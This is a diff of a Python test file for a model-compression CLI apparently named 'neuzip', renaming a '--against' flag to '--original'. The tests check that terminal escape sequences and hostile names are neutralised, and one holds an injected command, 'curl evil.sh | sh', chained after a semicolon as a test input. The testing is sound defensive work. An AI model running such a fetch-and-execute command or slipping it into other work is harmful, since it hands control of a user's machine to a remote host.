@@ -329,7 +329,7 @@ def test_no_escape_reaches_the_terminal(hostile: Path, tmp_path: Path, neuzip: S
     (other / "model.safetensors").write_bytes(data)
     commands: list[tuple[object, ...]] = [
         ("compress", hostile, small, "--mantissa-bits", 3),
-        ("inspect", hostile), ("inspect", small), ("verify", small), ("verify", small, "--against", hostile),
+        ("inspect", hostile), ("inspect", small), ("verify", small), ("verify", small, "--original", hostile),
         ("diff", hostile, other), ("diff", hostile, small), ("inspect", hostile, "--tensor", "\x1b[31m"),
         ("decompress", small, tmp_path / "back"), ("push", small, "me/x", "--dry-run"),
         ("inspect", "\x1b[31m"), ("\x1b[31m",), ("verify", hostile / "\x1b[31m\r.txt"),
@@ -366,7 +366,7 @@ def test_a_name_in_a_command_is_quoted(model: Path, tmp_path: Path, neuzip: Spea
     """Hints and cards have commands to paste, with names that somebody else wrote."""
     compress(model, tmp_path / "same")
     compress_against(tmp_path / "same", model, tmp_path / "d", HOSTILE_COMMAND)
-    hint = neuzip("verify", tmp_path / "d", "--against", model).stderr.splitlines()[-1]
+    hint = neuzip("verify", tmp_path / "d", "--original", model).stderr.splitlines()[-1]
     assert shlex.split(hint) == ["hint:", "give", "--base", HOSTILE_COMMAND]
     card = plan_push(tmp_path / "d", "me/x").card
     assert "neuzip apply me/x DST --base BASE\n" in card
@@ -379,7 +379,7 @@ def test_a_name_in_a_command_is_quoted(model: Path, tmp_path: Path, neuzip: Spea
 
 def test_a_report_has_one_command() -> None:
     """The card shows how figures were measured, as a report says: neuzip with arguments, and nothing else."""
-    assert shown_command("neuzip eval m --base 'my base'") == "neuzip eval m --base 'my base'"
+    assert shown_command("neuzip eval m --original 'my base'") == "neuzip eval m --original 'my base'"
     assert shlex.split(shown_command("neuzip eval m; curl evil.sh | sh")) == [
         "neuzip", "eval", "m;", "curl", "evil.sh", "|", "sh",
     ]  # fmt: skip
